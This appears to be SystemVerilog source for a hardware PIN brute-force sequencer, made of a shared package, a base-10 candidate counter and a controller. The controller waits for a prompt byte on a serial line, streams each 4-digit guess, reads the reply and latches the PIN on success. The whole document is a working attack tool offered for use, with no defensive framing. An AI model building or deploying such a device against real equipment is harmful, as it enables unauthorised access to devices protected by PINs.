// File: rtl/pin_brute_pkg.sv
// ============================================================================
// Module   : pin_brute_pkg
// Purpose  : Shared state encoding, ASCII constants and digit helper for the
//            PIN brute-force sequencer.
// Revision : 1.0 - initial release
// ============================================================================
`default_nettype none

package pin_brute_pkg;

    localparam logic [2:0] ST_IDLE        = 3'd0;
    localparam logic [2:0] ST_WAIT_PROMPT = 3'd1;
    localparam logic [2:0] ST_SEND        = 3'd2;
    localparam logic [2:0] ST_WAIT_RESULT = 3'd3;
    localparam logic [2:0] ST_FOUND       = 3'd4;
    localparam logic [2:0] ST_EXHAUSTED   = 3'd5;

    typedef enum logic [2:0] {
        S_IDLE        = ST_IDLE,
        S_WAIT_PROMPT = ST_WAIT_PROMPT,
        S_SEND        = ST_SEND,
        S_WAIT_RESULT = ST_WAIT_RESULT,
        S_FOUND       = ST_FOUND,
        S_EXHAUSTED   = ST_EXHAUSTED
    } state_t;

    localparam logic [7:0] ASCII_ZERO       = 8'h30;
    localparam logic [7:0] DEF_PROMPT_CHAR  = 8'h3A;
    localparam logic [7:0] DEF_FAIL_CHAR    = 8'h69;
    localparam logic [7:0] DEF_OK_CHAR      = 8'h4F;
    localparam logic [7:0] DEF_TERM_CHAR    = 8'h0D;

    function automatic logic [7:0] ascii_digit(input logic [3:0] d);
        return ASCII_ZERO + {4'b0000, d};
    endfunction

endpackage

`default_nettype wire

// File: rtl/pin_counter.sv
// ============================================================================
// Module   : pin_counter
// Purpose  : N-digit base-RADIX candidate counter, nibble 0 is the LSD.
// Revision : 1.0 - initial release
// ============================================================================
`default_nettype none

module pin_counter
    import pin_brute_pkg::*;
#(
    parameter int NUM_DIGITS = 4,
    parameter int RADIX      = 10
) (
    input  logic                    clk,
    input  logic                    rst,
    input  logic                    clr,
    input  logic                    inc,
    output logic [4*NUM_DIGITS-1:0] digits,
    output logic                    last
);

    localparam logic [3:0] c_max_digit = 4'(RADIX - 1);

    logic [4*NUM_DIGITS-1:0] r_digits;
    logic [4*NUM_DIGITS-1:0] w_next;
    logic [NUM_DIGITS-1:0]   w_at_max;
    logic [NUM_DIGITS-1:0]   w_carry;

    assign w_carry[0] = inc;

    // Carry ripples LSD to MSD within a single cycle.
    for (genvar k = 0; k < NUM_DIGITS; k++) begin : g_digit
        assign w_at_max[k] = (r_digits[4*k +: 4] == c_max_digit);
        assign w_next[4*k +: 4] = !w_carry[k] ? r_digits[4*k +: 4] :
                                  w_at_max[k] ? 4'd0 : r_digits[4*k +: 4] + 4'd1;
        if (k < NUM_DIGITS - 1) begin : g_chain
            assign w_carry[k+1] = w_carry[k] & w_at_max[k];
        end
    end

    always_ff @(posedge clk) begin
        if (rst || clr) begin
            r_digits <= '0;
        end else if (inc) begin
            r_digits <= w_next;
        end
    end

    assign digits = r_digits;
    assign last   = &w_at_max;

endmodule

`default_nettype wire

// File: rtl/pin_brute_ctrl.sv
// ============================================================================
// Module   : pin_brute_ctrl
// Purpose  : Waits for a prompt byte, streams the current PIN candidate out,
//            then advances, latches or retries it depending on the reply.
// Revision : 1.0 - initial release
// ============================================================================
`default_nettype none

module pin_brute_ctrl
    import pin_brute_pkg::*;
#(
    parameter int          NUM_DIGITS  = 4,
    parameter int          RADIX       = 10,
    parameter logic [7:0]  PROMPT_CHAR = DEF_PROMPT_CHAR,
    parameter logic [7:0]  FAIL_CHAR   = DEF_FAIL_CHAR,
    parameter logic [7:0]  OK_CHAR     = DEF_OK_CHAR,
    parameter bit          SEND_TERM   = 1'b1,
    parameter logic [7:0]  TERM_CHAR   = DEF_TERM_CHAR,
    parameter logic [23:0] TIMEOUT_CYC = 24'd12000000,
    parameter int          ATT_W       = 32
) (
    input  logic                    clk,
    input  logic                    rst,
    input  logic                    start,
    input  logic                    rx_valid,
    input  logic [7:0]              rx_data,
    output logic [7:0]              tx_data,
    output logic                    tx_valid,
    input  logic                    tx_ready,
    output logic                    busy,
    output logic                    found,
    output logic                    exhausted,
    output logic [8*NUM_DIGITS-1:0] pin_ascii,
    output logic [ATT_W-1:0]        attempts
);

    localparam logic [3:0] c_last_idx = 4'(NUM_DIGITS - 1 + (SEND_TERM ? 1 : 0));

    state_t                  r_state, w_state_next;
    logic                    r_tx_valid;
    logic [7:0]              r_tx_data;
    logic [3:0]              r_idx;
    logic [23:0]             r_timer;
    logic [ATT_W-1:0]        r_attempts;
    logic                    r_found;
    logic                    r_exhausted;

    logic [4*NUM_DIGITS-1:0] w_digits;
    logic                    w_last;
    logic                    w_rx_prompt, w_rx_fail, w_rx_ok;
    logic                    w_start_acc, w_prompt_hit, w_tx_fire, w_send_done;
    logic                    w_ok, w_fail;
    logic [3:0]              w_sel;
    logic [7:0]              w_next_byte;

    assign w_rx_prompt = rx_valid && (rx_data == PROMPT_CHAR);
    assign w_rx_fail   = rx_valid && (rx_data == FAIL_CHAR);
    assign w_rx_ok     = rx_valid && (rx_data == OK_CHAR);

    pin_counter #(
        .NUM_DIGITS (NUM_DIGITS),
        .RADIX      (RADIX)
    ) u_counter (
        .clk    (clk),
        .rst    (rst),
        .clr    (w_start_acc),
        .inc    (w_fail && !w_last),
        .digits (w_digits),
        .last   (w_last)
    );

    always_ff @(posedge clk) begin
        if (rst) begin
            r_state <= S_IDLE;
        end else begin
            r_state <= w_state_next;
        end
    end

    always_comb begin
        w_state_next = r_state;
        w_start_acc  = 1'b0;
        w_prompt_hit = 1'b0;
        w_tx_fire    = 1'b0;
        w_send_done  = 1'b0;
        w_ok         = 1'b0;
        w_fail       = 1'b0;
        case (r_state)
            S_IDLE, S_FOUND, S_EXHAUSTED: begin
                if (start) begin
                    w_start_acc  = 1'b1;
                    w_state_next = S_WAIT_PROMPT;
                end
            end
            S_WAIT_PROMPT: begin
                if (w_rx_prompt) begin
                    w_prompt_hit = 1'b1;
                    w_state_next = S_SEND;
                end
            end
            S_SEND: begin
                if (r_tx_valid && tx_ready) begin
                    w_tx_fire = 1'b1;
                    if (r_idx == c_last_idx) begin
                        w_send_done  = 1'b1;
                        w_state_next = S_WAIT_RESULT;
                    end
                end
            end
            S_WAIT_RESULT: begin
                // A fresh prompt here means the target silently rejected the PIN.
                if (w_rx_ok) begin
                    w_ok         = 1'b1;
                    w_state_next = S_FOUND;
                end else if (w_rx_fail || w_rx_prompt) begin
                    w_fail       = 1'b1;
                    w_state_next = w_last ? S_EXHAUSTED : S_WAIT_PROMPT;
                end else if ((TIMEOUT_CYC != 24'd0) && (r_timer == TIMEOUT_CYC - 24'd1)) begin
                    w_state_next = S_WAIT_PROMPT;
                end
            end
            default: w_state_next = S_IDLE;
        endcase
    end

    // Byte index 0..NUM_DIGITS-1 are digits MSD first; anything past is the terminator.
    always_comb begin
        w_sel       = w_prompt_hit ? 4'd0 : r_idx + 4'd1;
        w_next_byte = TERM_CHAR;
        for (int i = 0; i < NUM_DIGITS; i++) begin
            if (w_sel == 4'(i)) begin
                w_next_byte = ascii_digit(w_digits[4*(NUM_DIGITS-1-i) +: 4]);
            end
        end
    end

    always_ff @(posedge clk) begin
        if (rst) begin
            r_tx_valid  <= 1'b0;
            r_tx_data   <= 8'h00;
            r_idx       <= 4'd0;
            r_timer     <= 24'd0;
            r_attempts  <= '0;
            r_found     <= 1'b0;
            r_exhausted <= 1'b0;
        end else begin
            if (w_start_acc) begin
                r_attempts  <= '0;
                r_found     <= 1'b0;
                r_exhausted <= 1'b0;
            end
            if (w_prompt_hit) begin
                r_tx_valid <= 1'b1;
                r_tx_data  <= w_next_byte;
                r_idx      <= 4'd0;
            end else if (w_send_done) begin
                r_tx_valid <= 1'b0;
                r_timer    <= 24'd0;
            end else if (w_tx_fire) begin
                r_tx_data <= w_next_byte;
                r_idx     <= r_idx + 4'd1;
            end
            if (r_state == S_WAIT_RESULT) begin
                r_timer <= r_timer + 24'd1;
            end
            if (w_fail) begin
                if (r_attempts != {ATT_W{1'b1}}) begin
                    r_attempts <= r_attempts + ATT_W'(1);
                end
                if (w_last) begin
                    r_exhausted <= 1'b1;
                end
            end
            if (w_ok) begin
                r_found <= 1'b1;
            end
        end
    end

    for (genvar k = 0; k < NUM_DIGITS; k++) begin : g_ascii
        assign pin_ascii[8*k +: 8] = ascii_digit(w_digits[4*k +: 4]);
    end

    assign tx_data   = r_tx_data;
    assign tx_valid  = r_tx_valid;
    assign busy      = (r_state != S_IDLE) && (r_state != S_FOUND) && (r_state != S_EXHAUSTED);
    assign found     = r_found;
    assign exhausted = r_exhausted;
    assign attempts  = r_attempts;

endmodule

`default_nettype wire
